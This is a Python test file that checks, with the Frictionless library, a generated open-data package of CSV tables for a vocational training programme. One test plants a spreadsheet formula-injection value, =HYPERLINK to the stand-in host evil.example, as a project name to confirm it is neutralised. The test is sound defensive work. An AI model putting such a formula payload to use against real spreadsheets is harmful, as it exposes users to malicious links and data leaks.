"""`datapackage.json`: the real Frictionless library validates the published CSVs as a Data Package."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from frictionless import Package, validate

from generator.opendata.config import LICENCE_URL
from generator.opendata.datapackage import FIELD_TYPES
from generator.opendata.dictionary import TABLES
from tests.opendata.helpers import PUBLISHER, build, read_csv, read_json, sample_world


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("datapackage")
    build(sample_world(tmp).root, tmp / "out")
    return tmp / "out"


def descriptor(out: Path) -> Any:
    return json.loads((out / "datapackage.json").read_text(encoding="utf-8"))


def errors(report: Any) -> list[list[Any]]:
    return list(report.flatten(["type", "fieldName", "message"]))


def test_frictionless_validates_the_published_package(out: Path) -> None:
    report = validate(out / "datapackage.json")
    assert errors(report) == [] and report.valid
    assert report.stats["tasks"] == len(TABLES)
    rows = {task.name: task.stats["rows"] for task in report.tasks}
    assert rows == {t.name: len(read_csv(out / f"{t.name}.csv")) for t in TABLES}
    assert rows["projects"] > 5 and rows["payments"] > 0  # the sample really fills the tables


def test_the_package_is_the_dictionary(out: Path) -> None:
    """Every resource, field, type and key comes from dictionary.TABLES; the field names are the CSV headers."""
    pkg = descriptor(out)
    assert pkg["profile"] == "tabular-data-package"
    assert pkg["title"] == f"{PUBLISHER} 重点群体项目化就业技能培训开放数据"
    assert {r["path"] for r in pkg["resources"]} == {p.name for p in out.glob("*.csv")}  # published tables only
    assert pkg["licenses"][0]["path"] == LICENCE_URL and pkg["sources"]
    assert [r["name"] for r in pkg["resources"]] == [t.name for t in TABLES]
    for table, res in zip(TABLES, pkg["resources"], strict=True):
        header = list(read_csv(out / res["path"])[0])
        fields = res["schema"]["fields"]
        assert [f["name"] for f in fields] == header == [c.title for c in table.columns]
        assert [f["type"] for f in fields] == [FIELD_TYPES[c.kind] for c in table.columns]
        assert all(c.key in f["description"] and c.meaning in f["description"] for c, f in zip(table.columns, fields,
                                                                                              strict=True))
        assert res["title"] == table.title and table.meaning in res["description"]
        titles = {c.key: c.title for c in table.columns}
        assert res["schema"]["primaryKey"] == [titles[k] for k in table.primary_key]
        assert res["schema"]["missingValues"] == [""]
        refs = [(fk["fields"], fk["reference"]["resource"]) for fk in res["schema"].get("foreignKeys", [])]
        assert refs == [([titles[c]], other) for c, other, _ in table.foreign_keys]


def test_typed_values_and_missing_cells_read_back_as_the_json_downloads(out: Path) -> None:
    """What a Frictionless reader gets (Decimal money, dates, booleans, None for an empty cell)
    equals the JSON download, cell by cell."""
    package = Package(out / "datapackage.json")
    nulls = 0
    for table in TABLES:
        with package.get_resource(table.name) as resource:
            rows = [row.to_dict() for row in resource.row_stream]  # type: ignore[attr-defined]
        expected = read_json(out / f"{table.name}.json")
        assert len(rows) == len(expected)
        for got, want in zip(rows, expected, strict=True):
            for c in table.columns:
                value, json_value = got[c.title], want[c.key]
                nulls += value is None
                if json_value is None:
                    assert value is None, (table.name, c.key)
                elif c.kind in ("money", "rate"):
                    assert value == Decimal(json_value), (table.name, c.key)
                elif c.kind == "date":
                    assert value.isoformat() == json_value
                else:
                    assert value == json_value, (table.name, c.key)
    assert nulls > 10  # withheld outcomes really are empty cells read as missing


def test_a_broken_reference_or_value_is_found(tmp_path: Path) -> None:
    """The keys and types are declared for real: a payment of a project not in projects.csv and a
    money cell that is not a number fail validation, each named."""
    world = sample_world(tmp_path)
    build(world.root, tmp_path / "out")
    payments = tmp_path / "out" / "payments.csv"
    text = payments.read_bytes().decode("utf-8-sig")
    lines = text.split("\r\n")
    lines[1] = "P2099-999," + lines[1].split(",", 1)[1]
    lines[2] = ",".join([*lines[2].split(",")[:-1], "一万元"])
    payments.write_bytes("\r\n".join(lines).encode("utf-8-sig"))
    found = errors(validate(tmp_path / "out" / "datapackage.json"))
    assert sorted(e[0] for e in found) == ["foreign-key", "type-error"]
    assert [e[1] for e in found if e[0] == "type-error"] == ["金额"]
    assert ["P2099-999" in e[2] and "projects" in e[2] for e in found if e[0] == "foreign-key"] == [True]


def test_separators_quotes_newlines_and_formulas_stay_one_valid_cell(tmp_path: Path) -> None:
    """Attack: an institution names its project so as to break the CSV (a comma, quotes, a line
    break) or run a formula in a spreadsheet. The package still validates, the row count is right,
    and the cell reads back as the name, with the neutralising quote a spreadsheet needs."""
    planted = '=HYPERLINK("http://evil.example/?x=1,2","点我")\r\n第二行,"引号"；逗号,分号;\t制表'
    world = sample_world(tmp_path)
    world.edit("applications/2026/A2026-002.yaml", lambda d: d.__setitem__("project_name", planted))
    build(world.root, tmp_path / "out")
    out = tmp_path / "out"
    report = validate(out / "datapackage.json")
    assert errors(report) == [] and report.valid
    with Package(out / "datapackage.json").get_resource("projects") as resource:
        rows = [row.to_dict() for row in resource.row_stream]  # type: ignore[attr-defined]
    names = [r["项目名称"] for r in rows]
    assert len(rows) == len(read_json(out / "projects.json"))
    assert names.count("'" + planted) == 1
    assert not [n for n in names if n and n.startswith(("=", "+", "-", "@"))]
